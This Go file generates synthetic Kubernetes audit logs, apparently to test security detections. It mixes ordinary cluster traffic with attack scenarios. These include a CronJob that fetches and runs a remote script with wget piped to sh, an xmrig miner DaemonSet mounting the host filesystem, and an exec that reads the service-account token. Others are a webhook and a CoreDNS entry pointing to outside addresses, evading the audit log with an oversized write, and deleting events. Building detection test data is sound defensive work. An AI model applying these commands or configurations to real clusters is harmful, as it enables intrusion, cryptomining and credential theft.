package auditgen

import (
	"fmt"
	"strings"
)

// Mix returns the scenarios of the log and their weights (events per 10,000).
func Mix() []Scenario { return mix }

var mix = []Scenario{
	// Leader election and node heartbeats: the bulk of any cluster's audit log.
	{Name: "lease-get", Weight: 1200, gen: leaseGet},
	{Name: "lease-update", Weight: 1700, gen: leaseUpdate},
	{Name: "endpointslice-read", Weight: 600, gen: simpleRead("endpointslices", "discovery.k8s.io")},
	{Name: "endpointslice-update", Weight: 450, gen: endpointSliceUpdate},
	{Name: "configmap-get", Weight: 700, gen: configMapGet},
	{Name: "configmap-update", Weight: 240, gen: configMapUpdate(500, 24_000)},
	{Name: "configmap-update-large", Weight: 12, gen: configMapUpdate(100_000, 400_000)},
	{Name: "node-read", Weight: 500, gen: simpleRead("nodes", "")},
	{Name: "node-status-patch", Weight: 700, gen: nodeStatusPatch},
	{Name: "pod-read", Weight: 1000, gen: simpleRead("pods", "")},
	{Name: "pod-status-update", Weight: 400, gen: podStatusUpdate},
	{Name: "watch", Weight: 500, gen: watch},
	{Name: "health-check", Weight: 300, gen: healthCheck},
	{Name: "kubelet-event", Weight: 300, gen: kubeletEvent},
	{Name: "secret-get-by-kubelet", Weight: 60, gen: secretGetByKubelet},
	{Name: "workload-update", Weight: 250, gen: workloadUpdate},
	{Name: "pod-create-by-replicaset", Weight: 120, gen: podCreateByReplicaSet},
	{Name: "pod-delete", Weight: 80, gen: podDelete},
	{Name: "token-request", Weight: 200, gen: tokenRequest},
	{Name: "access-review", Weight: 150, gen: accessReview},
	{Name: "deployment-apply", Weight: 50, gen: deploymentApply},
	{Name: "forbidden-read", Weight: 40, gen: forbiddenRead},
	{Name: "anonymous-health-check", Weight: 40, gen: anonymousHealthCheck},
	// Attacks, each written to trigger one built-in detection.
	{Name: "nodeport-service", Weight: 3, Detection: "Kubernetes NodePort Service Exposed", gen: nodePortService},
	{Name: "privileged-pod-apply", Weight: 3, Detection: "Kubernetes Pod Applied With Privileged Container", gen: podApply("privileged")},
	{Name: "host-network-pod-apply", Weight: 3, Detection: "Kubernetes Pod Applied With Host Network", gen: podApply("hostNetwork")},
	{Name: "cronjob-create", Weight: 3, Detection: "Kubernetes CronJob Created", gen: cronJobCreate},
	{Name: "daemonset-create", Weight: 3, Detection: "Kubernetes DaemonSet Created", gen: daemonSetCreate},
	{Name: "exec-into-pod", Weight: 3, Detection: "Kubernetes Exec or Attach Into Pod", gen: execIntoPod},
	{Name: "secret-read-by-script", Weight: 3, Detection: "Kubernetes Secret Read by Unapproved User", gen: secretReadByScript},
	{Name: "cluster-admin-binding", Weight: 3, Detection: "Kubernetes Cluster Admin Role Bound", gen: clusterAdminBinding},
	{Name: "write-denied", Weight: 3, Detection: "Kubernetes Write Request Denied by Authorizer", gen: writeDenied},
	{Name: "anonymous-allowed", Weight: 3, Detection: "Kubernetes Anonymous Request Allowed", gen: anonymousAllowed},
	{Name: "unapproved-image-pull", Weight: 3, Detection: "Kubernetes Image Pulled From Unapproved Registry", gen: unapprovedImagePull},
	{Name: "pod-in-default-namespace", Weight: 3, Detection: "Kubernetes Pod Created in Default or System Namespace", gen: podInDefault},
	{Name: "admission-webhook-create", Weight: 3, Detection: "Kubernetes Admission Webhook Configuration Changed", gen: admissionWebhookCreate},
	{Name: "admission-policy-binding-audit", Weight: 3, Detection: "Kubernetes Admission Policy Changed", gen: admissionPolicyBindingAudit},
	{Name: "events-delete", Weight: 3, Detection: "Kubernetes Event Records Deleted", gen: eventsDelete},
	{Name: "coredns-patch", Weight: 3, Detection: "Kubernetes CoreDNS Configuration Changed", gen: coreDNSPatch},
	{Name: "padded-privileged-pod", Weight: 3, Detection: "Kubernetes Oversized Write Audited Without Its Body", gen: paddedPrivilegedPod},
	{Name: "unauthenticated-scan", Weight: 16, Detection: "Kubernetes API Scanning by Unauthenticated Source", burst: 8, gen: unauthenticatedScan},
	{Name: "permission-probing", Weight: 16, Detection: "Kubernetes Permission Probing by Authenticated Identity", burst: 8, gen: permissionProbing},
}

func one(ev Event) []Event { return []Event{ev} }

// ---- ordinary traffic ----------------------------------------------------------------------------------------

func leaseGet(g *Generator) []Event {
	who, name, ns := leaseHolder(g)
	return one(g.event(req{verb: "get", who: who, uri: uri("coordination.k8s.io", "v1", ns, "leases", name, "") + "?timeout=5s",
		ref: ref("leases", ns, name, "coordination.k8s.io", "v1", "")}))
}

// leaseHolder is a leader-election client or a kubelet renewing its node lease.
func leaseHolder(g *Generator) (identity, string, string) {
	switch g.r.intn(4) {
	case 0:
		return controlPlane("kube-controller-manager", "/leader-election"), "kube-controller-manager", "kube-system"
	case 1:
		return controlPlane("kube-scheduler", "/leader-election"), "kube-scheduler", "kube-system"
	}
	who := g.kubelet()
	return who, strings.TrimPrefix(who.user[0].v.(string), "system:node:"), "kube-node-lease"
}

func leaseUpdate(g *Generator) []Event {
	who, name, ns := leaseHolder(g)
	manager := strings.SplitN(who.ua, "/", 2)[0]
	l := g.lease(name, ns, name+"_"+g.r.uuid(), manager)
	return one(g.event(req{level: "RequestResponse", verb: "update", who: who,
		uri: uri("coordination.k8s.io", "v1", ns, "leases", name, "") + "?timeout=10s",
		ref: ref("leases", ns, name, "coordination.k8s.io", "v1", ""), reqObj: l, respObj: l}))
}

// simpleRead is a get or list of a resource by the identities that read it all day.
func simpleRead(resource, group string) func(g *Generator) []Event {
	return func(g *Generator) []Event {
		var who identity
		switch g.r.intn(3) {
		case 0:
			who = g.kubelet()
		case 1:
			who = g.controller(pick(&g.r, []string{"endpointslice-controller", "node-lifecycle-controller", "replicaset-controller"}))
		default:
			who = g.serviceAccount("monitoring", "prometheus", "prometheus/2.53.0")
		}
		ns := pick(&g.r, appNamespaces)
		if resource == "nodes" {
			ns = ""
		}
		if g.r.chance(500) {
			u := uri(group, "v1", ns, resource, "", "") + "?limit=500&resourceVersion=0"
			return one(g.event(req{verb: "list", who: who, uri: u, ref: ref(resource, ns, "", group, "v1", "")}))
		}
		name := pick(&g.r, appNames) + "-" + g.r.alnum(5)
		if resource == "nodes" {
			name, _ = g.node()
		}
		return one(g.event(req{verb: "get", who: who, uri: uri(group, "v1", ns, resource, name, ""),
			ref: ref(resource, ns, name, group, "v1", "")}))
	}
}

func endpointSliceUpdate(g *Generator) []Event {
	ns, svc := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	es := g.endpointSlice(ns, svc, g.r.between(1, 12))
	name := es[2].v.(obj)[0].v.(string)
	return one(g.event(req{level: "RequestResponse", verb: "update", who: g.controller("endpointslice-controller"),
		uri: uri("discovery.k8s.io", "v1", ns, "endpointslices", name, ""),
		ref: ref("endpointslices", ns, name, "discovery.k8s.io", "v1", ""), reqObj: es, respObj: es}))
}

func configMapGet(g *Generator) []Event {
	who := g.kubelet()
	ns, name := pick(&g.r, append(appNamespaces, "kube-system")), pick(&g.r, []string{"kube-root-ca.crt", "app-config", "kube-proxy", "coredns"})
	return one(g.event(req{verb: "get", who: who, uri: uri("", "v1", ns, "configmaps", name, ""),
		ref: ref("configmaps", ns, name, "", "v1", "")}))
}

func configMapUpdate(lo, hi int) func(g *Generator) []Event {
	return func(g *Generator) []Event {
		ns, name := pick(&g.r, appNamespaces), pick(&g.r, appNames)+"-config"
		// Sizes spread evenly on a log scale between lo and hi.
		size := lo
		for size*2 < hi && g.r.chance(500) {
			size *= 2
		}
		size = g.r.between(size, min(hi, size*2))
		cm := g.configMap(ns, name, size)
		who := g.serviceAccount("argocd", "argocd-application-controller", "argocd-application-controller/v2.12.3")
		return one(g.event(req{level: "RequestResponse", verb: "update", who: who,
			uri: uri("", "v1", ns, "configmaps", name, ""), ref: ref("configmaps", ns, name, "", "v1", ""),
			reqObj: cm, respObj: cm}))
	}
}

func nodeStatusPatch(g *Generator) []Event {
	who := g.kubelet()
	name := strings.TrimPrefix(who.user[0].v.(string), "system:node:")
	return one(g.event(req{level: "Request", verb: "patch", who: who,
		uri: uri("", "v1", "", "nodes", name, "status") + "?timeout=10s",
		ref: ref("nodes", "", name, "", "v1", "status"), reqObj: g.nodeStatusPatch(g.r.chance(150))}))
}

func podStatusUpdate(g *Generator) []Event {
	who := g.kubelet()
	ns, app := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	name := app + "-" + g.r.alnum(10) + "-" + g.r.alnum(5)
	return one(g.event(req{level: "Request", verb: "patch", who: who,
		uri: uri("", "v1", ns, "pods", name, "status"), ref: ref("pods", ns, name, "", "v1", "status"),
		reqObj: g.podStatus(g.r.chance(900))}))
}

func watch(g *Generator) []Event {
	resource := pick(&g.r, []string{"pods", "services", "endpointslices", "configmaps", "secrets", "nodes"})
	group := ""
	if resource == "endpointslices" {
		group = "discovery.k8s.io"
	}
	who := g.kubelet()
	u := uri(group, "v1", "", resource, "", "") + fmt.Sprintf(
		"?allowWatchBookmarks=true&resourceVersion=%d&timeout=%dm%ds&timeoutSeconds=%d&watch=true",
		g.rv-g.r.between(1, 5000), g.r.between(5, 9), g.r.between(0, 59), g.r.between(300, 600))
	return one(g.event(req{verb: "watch", who: who, uri: u, ref: ref(resource, "", "", group, "v1", "")}))
}

func healthCheck(g *Generator) []Event {
	who := g.serviceAccount("monitoring", "prometheus", "Prometheus/2.53.0")
	path := pick(&g.r, []string{"/healthz", "/readyz", "/livez", "/metrics", "/version"})
	return one(g.event(req{verb: "get", who: who, uri: path}))
}

func kubeletEvent(g *Generator) []Event {
	who := g.kubelet()
	node := strings.TrimPrefix(who.user[0].v.(string), "system:node:")
	ns, app := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	pod := app + "-" + g.r.alnum(10) + "-" + g.r.alnum(5)
	image := g.image(app)
	var reason, msg string
	switch g.r.intn(5) {
	case 0:
		reason, msg = "Pulling", fmt.Sprintf("Pulling image %q", "registry.k8s.io/pause:3.10")
	case 1:
		reason, msg = "Pulled", fmt.Sprintf("Successfully pulled image %q in 1.21s (1.21s including waiting)", image)
	case 2:
		reason, msg = "Created", "Created container "+app
	case 3:
		reason, msg = "Started", "Started container "+app
	default:
		reason, msg = "Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503"
	}
	return one(g.event(req{level: "Request", verb: "create", who: who, uri: uri("", "v1", ns, "events", "", ""),
		ref: ref("events", ns, "", "", "v1", ""), code: 201, reqObj: g.coreEvent(ns, pod, node, reason, msg)}))
}

func secretGetByKubelet(g *Generator) []Event {
	who := g.kubelet()
	ns, name := pick(&g.r, appNamespaces), pick(&g.r, appNames)+"-credentials"
	return one(g.event(req{verb: "get", who: who, uri: uri("", "v1", ns, "secrets", name, ""),
		ref: ref("secrets", ns, name, "", "v1", "")}))
}

func workloadUpdate(g *Generator) []Event {
	ns, app := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	d := g.deployment(ns, app, g.r.between(2, 12), "")
	return one(g.event(req{level: "RequestResponse", verb: "update", who: g.controller("deployment-controller"),
		uri: uri("apps", "v1", ns, "deployments", app, "status"), ref: ref("deployments", ns, app, "apps", "v1", "status"),
		reqObj: d, respObj: d}))
}

func podCreateByReplicaSet(g *Generator) []Event {
	ns, app := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	pod, name := g.appPod(ns, app)
	return one(g.event(req{level: "RequestResponse", verb: "create", who: g.controller("replicaset-controller"),
		uri: uri("", "v1", ns, "pods", "", ""), ref: ref("pods", ns, name, "", "v1", ""), code: 201,
		reqObj: pod, respObj: pod, extraAnnotations: obj{{"pod-security.kubernetes.io/enforce-policy", "restricted:latest"}}}))
}

func podDelete(g *Generator) []Event {
	ns, app := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	pod, name := g.appPod(ns, app)
	return one(g.event(req{level: "RequestResponse", verb: "delete", who: g.controller("replicaset-controller"),
		uri: uri("", "v1", ns, "pods", name, ""), ref: ref("pods", ns, name, "", "v1", ""),
		reqObj: obj{{"kind", "DeleteOptions"}, {"apiVersion", "v1"}, {"propagationPolicy", "Background"}}, respObj: pod}))
}

func tokenRequest(g *Generator) []Event {
	who := g.kubelet()
	ns, app := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
		uri: uri("", "v1", ns, "serviceaccounts", app, "token"), ref: ref("serviceaccounts", ns, app, "", "v1", "token"),
		reqObj: obj{{"kind", "TokenRequest"}, {"apiVersion", "authentication.k8s.io/v1"},
			{"metadata", obj{{"creationTimestamp", nil}}},
			{"spec", obj{{"audiences", []string{"https://kubernetes.default.svc.cluster.local"}}, {"expirationSeconds", 3607},
				{"boundObjectRef", obj{{"kind", "Pod"}, {"apiVersion", "v1"}, {"name", app + "-" + g.r.alnum(10)}, {"uid", g.r.uuid()}}}}},
			{"status", obj{{"token", ""}, {"expirationTimestamp", nil}}}}}))
}

func accessReview(g *Generator) []Event {
	who := g.serviceAccount("monitoring", "kube-state-metrics", "kube-rbac-proxy/v0.18.0")
	review := obj{{"kind", "SubjectAccessReview"}, {"apiVersion", "authorization.k8s.io/v1"},
		{"metadata", obj{{"creationTimestamp", nil}}},
		{"spec", obj{{"nonResourceAttributes", obj{{"path", "/metrics"}, {"verb", "get"}}},
			{"user", "system:serviceaccount:monitoring:prometheus"},
			{"groups", []string{"system:serviceaccounts", "system:serviceaccounts:monitoring", "system:authenticated"}},
			{"uid", g.r.uuid()}}},
		{"status", obj{{"allowed", true}, {"reason", rbacReason("ClusterRoleBinding", "prometheus", "prometheus", "ServiceAccount", "prometheus/monitoring")}}}}
	return one(g.event(req{level: "RequestResponse", verb: "create", who: who, code: 201,
		uri: "/apis/authorization.k8s.io/v1/subjectaccessreviews", ref: ref("subjectaccessreviews", "", "", "authorization.k8s.io", "v1", ""),
		reqObj: review, respObj: review}))
}

func deploymentApply(g *Generator) []Event {
	ns, app := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	who := g.person()
	applied := fmt.Sprintf(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{},"name":%q,"namespace":%q},"spec":{"replicas":3,"selector":{"matchLabels":{"app":%q}},"template":{"metadata":{"labels":{"app":%q}},"spec":{"containers":[{"image":%q,"name":%q}]}}}}`+"\n",
		app, ns, app, app, g.image(app), app)
	patch := obj{{"metadata", obj{{"annotations", obj{{"kubectl.kubernetes.io/last-applied-configuration", applied}}}}},
		{"spec", obj{{"template", obj{{"spec", obj{{"$setElementOrder/containers", arr{obj{{"name", app}}}},
			{"containers", arr{obj{{"image", g.image(app)}, {"name", app}}}}}}}}}}}
	return one(g.event(req{level: "RequestResponse", verb: "patch", who: who,
		uri: uri("apps", "v1", ns, "deployments", app, "") + "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
		ref: ref("deployments", ns, app, "apps", "v1", ""), reqObj: patch, respObj: g.deployment(ns, app, 3, applied)}))
}

// forbiddenRead is a workload missing one read permission; its identity varies, so no windowed detection adds it up.
func forbiddenRead(g *Generator) []Event {
	ns := fmt.Sprintf("team-%d", g.r.between(1, 500))
	who := g.serviceAccount(ns, "app-"+g.r.alnum(4), "Go-http-client/2.0")
	user := who.user[0].v.(string)
	return one(g.event(req{verb: "list", who: who, uri: uri("", "v1", ns, "secrets", "", ""),
		ref: ref("secrets", ns, "", "", "v1", ""), code: 403, decision: "forbid", status: forbidden("list", "secrets", "", ns, user)}))
}

// anonymousHealthCheck is a load balancer probing the API server without credentials.
func anonymousHealthCheck(g *Generator) []Event {
	who := anonymous(fmt.Sprintf("10.0.%d.%d", g.r.between(2, 3), g.r.between(2, 250)), "kube-probe/1.31")
	return one(g.event(req{verb: "get", who: who, uri: pick(&g.r, []string{"/healthz", "/readyz", "/livez"})}))
}

// ---- attacks -------------------------------------------------------------------------------------------------

func nodePortService(g *Generator) []Event {
	who := g.person()
	ns, name := pick(&g.r, appNamespaces), pick(&g.r, appNames)+"-debug"
	svc := obj{{"kind", "Service"}, {"apiVersion", "v1"}, {"metadata", obj{{"name", name}, {"namespace", ns}, {"creationTimestamp", nil}}},
		{"spec", obj{{"ports", arr{obj{{"protocol", "TCP"}, {"port", 80}, {"targetPort", 8080}, {"nodePort", g.r.between(30000, 32767)}}}},
			{"selector", obj{{"app", name}}}, {"type", "NodePort"}}}, {"status", obj{{"loadBalancer", obj{}}}}}
	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
		uri: uri("", "v1", ns, "services", "", "") + "?fieldManager=kubectl-create&fieldValidation=Strict",
		ref: ref("services", ns, name, "", "v1", ""), reqObj: svc}))
}

// podApply is `kubectl apply` of a pod whose spec sets the given risky field.
func podApply(field string) func(g *Generator) []Event {
	return func(g *Generator) []Event {
		who := g.person()
		ns, name := "ops-tools", pick(&g.r, []string{"node-debugger", "net-sniffer", "toolbox"})+"-"+g.r.alnum(4)
		var sc, extra obj
		appliedExtra := ""
		if field == "privileged" {
			sc = obj{{"privileged", true}}
			appliedExtra = `,"securityContext":{"privileged":true}`
		} else {
			extra = obj{{"hostNetwork", true}}
		}
		applied := fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{},"name":%q,"namespace":%q},"spec":{"containers":[{"command":["sleep","infinity"],"image":"ubuntu:24.04","name":"debugger"%s}]%s}}`+"\n",
			name, ns, appliedExtra, map[bool]string{true: `,"hostNetwork":true`}[field == "hostNetwork"])
		pod := obj{{"kind", "Pod"}, {"apiVersion", "v1"},
			{"metadata", obj{{"name", name}, {"namespace", ns}, {"creationTimestamp", nil},
				{"annotations", obj{{"kubectl.kubernetes.io/last-applied-configuration", applied}}}}},
			{"spec", g.podSpec("default", arr{g.container("debugger", "ubuntu:24.04", sc)}, extra)}, {"status", obj{}}}
		return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
			uri: uri("", "v1", ns, "pods", "", "") + "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
			ref: ref("pods", ns, name, "", "v1", ""), reqObj: pod}))
	}
}

func cronJobCreate(g *Generator) []Event {
	who := g.person()
	ns, name := pick(&g.r, appNamespaces), "cache-warmer-"+g.r.alnum(4)
	cj := obj{{"kind", "CronJob"}, {"apiVersion", "batch/v1"}, {"metadata", obj{{"name", name}, {"namespace", ns}, {"creationTimestamp", nil}}},
		{"spec", obj{{"schedule", "*/5 * * * *"}, {"jobTemplate", obj{{"metadata", obj{{"creationTimestamp", nil}}},
			{"spec", obj{{"template", obj{{"metadata", obj{{"creationTimestamp", nil}}},
				{"spec", obj{{"containers", arr{obj{{"name", "warm"}, {"image", "alpine:3.20"},
					{"command", []string{"sh", "-c", "wget -qO- http://203.0.113.77/x.sh | sh"}}}}},
					{"restartPolicy", "OnFailure"}}}}}}}}}}}}
	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
		uri: uri("batch", "v1", ns, "cronjobs", "", ""), ref: ref("cronjobs", ns, name, "batch", "v1", ""), reqObj: cj}))
}

func daemonSetCreate(g *Generator) []Event {
	who := g.person()
	name := "node-agent-" + g.r.alnum(4)
	spec := obj{{"volumes", arr{obj{{"name", "host"}, {"hostPath", obj{{"path", "/"}, {"type", ""}}}}}},
		{"containers", arr{obj{{"name", "agent"}, {"image", "docker.io/xmrig/xmrig:6.21.0"},
			{"volumeMounts", arr{obj{{"name", "host"}, {"mountPath", "/host"}}}}}}}}
	ds := obj{{"kind", "DaemonSet"}, {"apiVersion", "apps/v1"}, {"metadata", obj{{"name", name}, {"namespace", "kube-system"}, {"creationTimestamp", nil}}},
		{"spec", obj{{"selector", obj{{"matchLabels", obj{{"app", name}}}}},
			{"template", obj{{"metadata", obj{{"labels", obj{{"app", name}}}}}, {"spec", spec}}}}}}
	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
		uri: uri("apps", "v1", "kube-system", "daemonsets", "", ""), ref: ref("daemonsets", "kube-system", name, "apps", "v1", ""), reqObj: ds}))
}

func execIntoPod(g *Generator) []Event {
	who := g.person()
	ns, app := pick(&g.r, appNamespaces), pick(&g.r, appNames)
	pod := app + "-" + g.r.alnum(10) + "-" + g.r.alnum(5)
	return one(g.event(req{verb: "create", stage: "ResponseStarted", who: who, code: 101,
		uri: uri("", "v1", ns, "pods", pod, "exec") + "?command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Ftoken&container=" + app + "&stderr=true&stdout=true",
		ref: ref("pods", ns, pod, "", "v1", "exec")}))
}

func secretReadByScript(g *Generator) []Event {
	who := g.serviceAccount("ci", "builder", "curl/8.5.0")
	ns, name := pick(&g.r, appNamespaces), pick(&g.r, appNames)+"-db-credentials"
	return one(g.event(req{verb: "get", who: who, uri: uri("", "v1", ns, "secrets", name, ""), ref: ref("secrets", ns, name, "", "v1", "")}))
}

func clusterAdminBinding(g *Generator) []Event {
	who := g.person()
	name := "debug-admin-" + g.r.alnum(4)
	user := strings.TrimPrefix(who.user[0].v.(string), "oidc:")
	crb := obj{{"kind", "ClusterRoleBinding"}, {"apiVersion", "rbac.authorization.k8s.io/v1"},
		{"metadata", obj{{"name", name}, {"creationTimestamp", nil}}},
		{"subjects", arr{obj{{"kind", "User"}, {"apiGroup", "rbac.authorization.k8s.io"}, {"name", "oidc:" + user}}}},
		{"roleRef", obj{{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "ClusterRole"}, {"name", "cluster-admin"}}}}
	return one(g.event(req{level: "RequestResponse", verb: "create", who: who, code: 201,
		uri: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", ref: ref("clusterrolebindings", "", name, "rbac.authorization.k8s.io", "v1", ""),
		reqObj: crb, respObj: crb}))
}

func writeDenied(g *Generator) []Event {
	who := g.person()
	user := who.user[0].v.(string)
	return one(g.event(req{verb: "create", who: who, code: 403, decision: "forbid",
		uri: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", ref: ref("clusterrolebindings", "", "", "rbac.authorization.k8s.io", "v1", ""),
		status: forbidden("create", "clusterrolebindings", "rbac.authorization.k8s.io", "", user)}))
}

func anonymousAllowed(g *Generator) []Event {
	who := anonymous("203.0.113.45", "python-requests/2.32.3")
	return one(g.event(req{verb: "list", who: who, uri: "/api/v1/namespaces", ref: ref("namespaces", "", "", "", "v1", "")}))
}

func unapprovedImagePull(g *Generator) []Event {
	who := g.kubelet()
	node := strings.TrimPrefix(who.user[0].v.(string), "system:node:")
	pod := "node-agent-" + g.r.alnum(5)
	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201, uri: uri("", "v1", "kube-system", "events", "", ""),
		ref:    ref("events", "kube-system", "", "", "v1", ""),
		reqObj: g.coreEvent("kube-system", pod, node, "Pulling", `Pulling image "docker.io/xmrig/xmrig:6.21.0"`)}))
}

func podInDefault(g *Generator) []Event {
	who := g.person()
	name := "tmp-shell-" + g.r.alnum(4)
	pod := obj{{"kind", "Pod"}, {"apiVersion", "v1"}, {"metadata", obj{{"name", name}, {"namespace", "default"}, {"creationTimestamp", nil},
		{"labels", obj{{"run", name}}}}}, {"spec", g.podSpec("default", arr{g.container(name, "busybox:1.36", nil)}, nil)}, {"status", obj{}}}
	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
		uri: uri("", "v1", "default", "pods", "", "") + "?fieldManager=kubectl-run", ref: ref("pods", "default", name, "", "v1", ""), reqObj: pod}))
}

// admissionWebhookCreate registers a mutating webhook that sends every new pod to an address outside the cluster.
func admissionWebhookCreate(g *Generator) []Event {
	who := g.person()
	name := "pod-defaults-" + g.r.alnum(4)
	hook := obj{{"name", "defaults.pods.example.io"},
		{"clientConfig", obj{{"url", fmt.Sprintf("https://203.0.113.%d:8443/mutate", g.r.between(2, 250))}}},
		{"rules", arr{obj{{"operations", []string{"CREATE"}}, {"apiGroups", []string{""}}, {"apiVersions", []string{"v1"}},
			{"resources", []string{"pods"}}, {"scope", "*"}}}},
		{"failurePolicy", "Ignore"}, {"sideEffects", "None"}, {"timeoutSeconds", 5}, {"admissionReviewVersions", []string{"v1"}}}
	cfg := obj{{"kind", "MutatingWebhookConfiguration"}, {"apiVersion", "admissionregistration.k8s.io/v1"},
		{"metadata", obj{{"name", name}, {"creationTimestamp", nil}}}, {"webhooks", arr{hook}}}
	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
		uri: "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?fieldManager=kubectl-create&fieldValidation=Strict",
		ref: ref("mutatingwebhookconfigurations", "", name, "admissionregistration.k8s.io", "v1", ""), reqObj: cfg}))
}

// admissionPolicyBindingAudit turns a policy binding from Deny to Audit: the ValidatingAdmissionPolicy stays and no
// longer refuses anything.
func admissionPolicyBindingAudit(g *Generator) []Event {
	who := g.person()
	name := pick(&g.r, []string{"disallow-privileged", "require-run-as-non-root", "restrict-host-path", "allowed-registries"}) + "-binding"
	return one(g.event(req{level: "Request", verb: "patch", who: who,
		uri:    uri("admissionregistration.k8s.io", "v1", "", "validatingadmissionpolicybindings", name, "") + "?fieldManager=kubectl-patch",
		ref:    ref("validatingadmissionpolicybindings", "", name, "admissionregistration.k8s.io", "v1", ""),
		reqObj: obj{{"spec", obj{{"validationActions", []string{"Audit"}}}}}}))
}

// eventsDelete removes the Event that recorded an image pull, one of the traces `kubectl get events` shows.
func eventsDelete(g *Generator) []Event {
	who := g.person()
	name := fmt.Sprintf("node-agent-%s.%x", g.r.alnum(5), g.r.next()>>12)
	return one(g.event(req{verb: "delete", who: who, uri: uri("", "v1", "kube-system", "events", name, ""),
		ref: ref("events", "kube-system", name, "", "v1", "")}))
}

// coreDNSPatch adds a hosts entry to CoreDNS's Corefile that resolves the registry to an outside address.
func coreDNSPatch(g *Generator) []Event {
	who := g.person()
	corefile := fmt.Sprintf(".:53 {\n    errors\n    health\n    ready\n    hosts {\n       203.0.113.%d %s\n       fallthrough\n    }\n"+
		"    kubernetes cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n       fallthrough in-addr.arpa ip6.arpa\n    }\n"+
		"    forward . /etc/resolv.conf\n    cache 30\n    loop\n    reload\n    loadbalance\n}\n", g.r.between(2, 250), strings.Split(pick(&g.r, registries), "/")[0])
	return one(g.event(req{level: "Request", verb: "patch", who: who,
		uri: uri("", "v1", "kube-system", "configmaps", "coredns", "") + "?fieldManager=kubectl-edit&fieldValidation=Strict",
		ref: ref("configmaps", "kube-system", "coredns", "", "v1", ""), reqObj: obj{{"data", obj{{"Corefile", corefile}}}}}))
}

// paddedPrivilegedPod creates a privileged pod padded with a 200 KiB annotation: its event is over the API server's
// truncation limit (100 KiB by default), so the server wrote it without the request and response bodies, and no
// detection that reads the pod spec can see the privileged container.
func paddedPrivilegedPod(g *Generator) []Event {
	who := g.person()
	ns, name := "ops-tools", pick(&g.r, []string{"node-debugger", "net-sniffer", "toolbox"})+"-"+g.r.alnum(4)
	return one(g.event(req{level: "RequestResponse", verb: "create", who: who, code: 201, truncated: true,
		uri: uri("", "v1", ns, "pods", "", "") + "?fieldManager=kubectl-create&fieldValidation=Strict",
		ref: ref("pods", ns, name, "", "v1", "")}))
}

// unauthenticatedScan is one address trying eight API paths without credentials, all refused.
func unauthenticatedScan(g *Generator) []Event {
	ip := fmt.Sprintf("203.0.113.%d", g.r.between(100, 199))
	who := anonymous(ip, "Mozilla/5.0 zgrab/0.x")
	return g.refusedLists(who, "system:anonymous",
		"secrets", "pods", "configmaps", "serviceaccounts", "nodes", "namespaces", "deployments", "clusterroles")
}

// permissionProbing is a stolen service-account token trying what it may read.
func permissionProbing(g *Generator) []Event {
	ns := pick(&g.r, appNamespaces)
	who := g.serviceAccount(ns, "frontend-"+g.r.alnum(3), "kubectl/v1.31.4 (linux/amd64) kubernetes/"+gitCommit)
	user := who.user[0].v.(string)
	return g.refusedLists(who, user,
		"secrets", "pods", "nodes", "clusterrolebindings", "secrets", "deployments", "configmaps", "nodes")
}

// refusedLists is one list request per resource by who (user, as the refusal names it), each refused by the
// authorizer.
func (g *Generator) refusedLists(who identity, user string, resources ...string) []Event {
	var out []Event
	for _, r := range resources {
		group := ""
		switch r {
		case "deployments":
			group = "apps"
		case "clusterroles", "clusterrolebindings":
			group = "rbac.authorization.k8s.io"
		}
		out = append(out, g.event(req{verb: "list", who: who, uri: uri(group, "v1", "", r, "", ""), ref: ref(r, "", "", group, "v1", ""),
			code: 403, decision: "forbid", status: forbidden("list", r, group, "", user)}))
	}
	return out
}
